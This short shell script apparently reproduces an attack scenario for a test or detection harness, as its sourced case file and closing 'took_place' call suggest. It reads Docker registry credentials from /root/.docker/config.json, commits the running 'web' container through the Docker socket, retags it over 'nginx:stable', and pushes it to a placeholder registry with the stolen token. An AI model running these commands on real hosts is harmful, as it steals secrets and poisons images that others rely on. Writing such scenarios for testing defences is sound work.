#!/bin/sh
. /opt/case/case.sh

auth=$(printf '{"auth":"%s"}' "$(sed -n 's/.*"auth": "\([^"]*\)".*/\1/p' /root/.docker/config.json)" | base64 -w0)
s="--unix-socket /run/docker.sock"
curl -sf $s -X POST "http://x/commit?container=web&repo=registry.example.org/base&tag=latest" >/dev/null
curl -sf $s -X POST "http://x/images/registry.example.org/base/tag?repo=nginx&tag=stable" >/dev/null
curl -sf $s -X POST -H "X-Registry-Auth: $auth" "http://x/images/registry.example.org/base/push?tag=latest" >/dev/null
took_place
